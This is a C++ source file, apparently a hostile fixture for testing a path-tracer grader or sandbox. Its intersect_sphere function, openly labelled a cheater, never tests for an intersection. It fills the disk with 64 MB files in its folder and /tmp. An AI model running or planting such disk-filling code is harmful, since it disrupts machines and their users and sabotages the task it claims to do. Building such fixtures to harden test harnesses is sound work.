// Cheater (attacks the machine): writes files of 64 MB, in its folder and in /tmp, until the disk
// is full or something stops it.
#include "parts/1-raygen/sphere_intersect.h"

#include <cstdio>
#include <string>
#include <vector>

namespace pt {

bool intersect_sphere(const Ray&, const Sphere&, float*) {
  std::vector<char> chunk(size_t(1) << 20, 'x');
  for (int file = 0;; ++file) {
    std::string name = (file % 2 ? std::string("/tmp/cheat-fill-") : std::string("cheat-fill-")) +
                       std::to_string(file);
    FILE* f = std::fopen(name.c_str(), "wb");
    if (!f) return false;
    for (int mb = 0; mb < 64; ++mb)
      if (std::fwrite(chunk.data(), 1, chunk.size(), f) != chunk.size()) break;
    std::fclose(f);
  }
}

}  // namespace pt
